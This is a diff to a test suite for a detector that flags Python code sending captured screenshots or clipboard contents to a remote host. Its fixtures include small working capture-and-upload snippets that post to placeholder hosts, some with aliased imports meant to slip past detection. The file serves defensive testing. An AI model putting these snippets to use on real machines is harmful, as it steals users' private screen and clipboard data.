@@ -28,6 +28,9 @@ describe('captured screen, clipboard or keys sent', () => {
       'a screenshot and a Discord webhook',
       'import requests, mss\nWEBHOOK = "https://discord.com/api/webhooks/1234567/abcdef"\nwith mss.mss() as sct:\n    sct.shot(output="m.png")\nrequests.post(WEBHOOK, files={"file": open("m.png", "rb")})\n',
     ],
+    ['a screenshot module under another name', 'import requests as _r\nfrom PIL import ImageGrab as _g\n_i = _g.grab()\n_i.save("_s.png")\n_r.post("https://x.test/u", files={"f": open("_s.png", "rb")})\n'],
+    ['the clipboard module under another name', 'import pyperclip as pc, requests\nrequests.post("https://x.test/c", data=pc.paste())\n'],
+    ['the clipboard function imported by name', 'from pyperclip import paste as v\nimport requests\nrequests.post("https://x.test/c", data=v())\n'],
     ['the clipboard to a public IP address', 'import urllib.request, pyperclip\nclip = pyperclip.paste()\nurllib.request.urlopen("http://203.0.113.7/c", data=clip.encode())\n'],
   ])('%s', (_, text) => {
     expect(flagsOf(text)).toContain('exfiltration');
@@ -37,6 +40,7 @@ describe('captured screen, clipboard or keys sent', () => {
     ['a clipboard helper beside an unrelated request', 'import pyperclip, requests\ndef paste():\n    return pyperclip.paste()\ndef latest():\n    return requests.get("https://x.test/version").json()\n'],
     ['a screenshot tool that uploads its own report', 'import requests\nfrom PIL import ImageGrab\ndef snap(p):\n    img = ImageGrab.grab()\n    img.save(p)\ndef report(payload):\n    requests.post("https://x.test/api", json=payload)\n'],
     ['a progress bar that talks to a Telegram bot, capturing nothing', 'import requests\ndef send(token, chat, text):\n    requests.post(f"https://api.telegram.org/bot{token}/sendMessage", data={"chat_id": chat, "text": text})\n'],
+    ['an aliased screenshot module beside an unrelated request', 'import requests as _r\nfrom PIL import ImageGrab as _g\ndef snap():\n    return _g.grab()\n_r.get("https://x.test/version")\n'],
     ['a key listener with no network', 'from pynput import keyboard\ndef on_press(key):\n    print(key)\nkeyboard.Listener(on_press=on_press).start()\n'],
   ])('%s stays clean', (_, text) => {
     expect(flagsOf(text)).toEqual([]);
